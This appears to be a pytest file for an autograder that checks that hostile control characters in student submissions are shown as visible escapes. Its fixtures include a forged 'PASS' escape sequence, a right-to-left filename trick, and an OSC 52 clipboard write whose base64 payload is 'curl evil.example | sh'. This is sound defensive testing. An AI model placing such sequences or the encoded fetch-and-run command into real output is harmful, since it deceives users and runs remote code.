"""Text from a submission printed to a terminal: every control and format character shown as an escape."""

import io
import logging

import pytest
from nbformat.v4 import new_notebook
from support import graded_cell

from autograder.grading.check import STUDENT_MODE, format_check
from autograder.grading.state import Outcome
from autograder.preprocessors import DemoteDuplicateCells
from autograder.reporting.export import summary_table
from autograder.terminal import VisibleLogText, log_visibly, visible, visible_lines

FAKE_PASS = "\x1b[2K\r\x1b[1A\x1b[32mPASS  every check: ok\x1b[0m"  # erase the line, move up, print green
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: write the clipboard
HOSTILE = FAKE_PASS + CLIPBOARD + "\u202egnp.exe\x9b31m\x7f\u200b\n\tnext"


def raw_controls(text):
    """Characters a terminal would act on, left in ``text``."""
    return [char for char in text if not char.isprintable() and char != "\n"]


def test_every_control_and_format_character_is_shown_as_an_escape():
    shown = visible(HOSTILE)
    assert raw_controls(shown) == [] and "\n" not in shown
    for escape in ("\\x1b[2K\\r", "\\x1b]52;c;", "\\x07", "\\u202e", "\\x9b", "\\x7f", "\\u200b", "\\n\\tnext"):
        assert escape in shown, escape
    assert visible("plain ünïcode 数据 text") == "plain ünïcode 数据 text"  # printable text is left alone
    assert visible(shown) == shown  # already visible text stays as it is
    assert visible_lines("a\x1b[31m\nb") == "a\\x1b[31m\nb"


@pytest.mark.parametrize("mode", [STUDENT_MODE, "instructor"])
def test_check_prints_what_the_notebook_recorded_as_visible_text(mode):
    checks = [
        {
            "name": "adam.next_w" + CLIPBOARD,
            "passed": False,
            "message": f"missing m; unexpected {FAKE_PASS}",
            "diagnosis": "some entries are missing " + HOSTILE,
        }
    ]
    printed = format_check(mode, Outcome("check", "graded", "kernel died in cell 3" + FAKE_PASS, 0, 1, checks))
    assert raw_controls(printed) == []
    assert len(printed.splitlines()) == 3  # the summary, the message, one line per check: no forged line


def test_the_grading_summary_prints_ids_and_messages_as_visible_text():
    class Report:
        outcomes = [Outcome("ok" + CLIPBOARD, "invalid", "none of its cells (" + FAKE_PASS + ") belong to it")]
        failed = outcomes
        skipped = [Outcome("\u202eeno", "graded")]
        seconds = 1.0

    printed = summary_table(Report())
    assert raw_controls(printed) == [] and "\\x1b]52;c;" in printed and "\\u202eeno" in printed


def test_log_records_reach_the_terminal_as_visible_text():
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(VisibleLogText())
    logger = logging.getLogger("autograder-test-terminal")
    logger.addHandler(handler)
    try:
        logger.warning("Cell '%s' does not exist in the database", FAKE_PASS)
        try:
            raise ValueError(CLIPBOARD)
        except ValueError:
            logger.exception("failed on %s", "x\ny")
    finally:
        logger.removeHandler(handler)
    printed = stream.getvalue()
    assert raw_controls(printed) == []
    assert "Cell '\\x1b[2K\\r" in printed and "failed on x\\ny" in printed and "ValueError: \\x1b]52;c;" in printed


def test_our_commands_make_the_last_resort_handler_visible(capsys):
    log_visibly()
    logging.getLogger("autograder-test-no-handlers").warning("id %s", CLIPBOARD)
    assert raw_controls(capsys.readouterr().err) == []


def test_nbgraders_preprocessors_we_extend_log_grade_ids_visibly(caplog):
    hostile_id = "test" + FAKE_PASS
    with caplog.at_level(logging.WARNING):
        DemoteDuplicateCells().preprocess(new_notebook(cells=[graded_cell(hostile_id), graded_cell(hostile_id)]), {})
    assert caplog.messages and all(raw_controls(message) == [] for message in caplog.messages)
    assert any("\\x1b[2K" in message for message in caplog.messages)
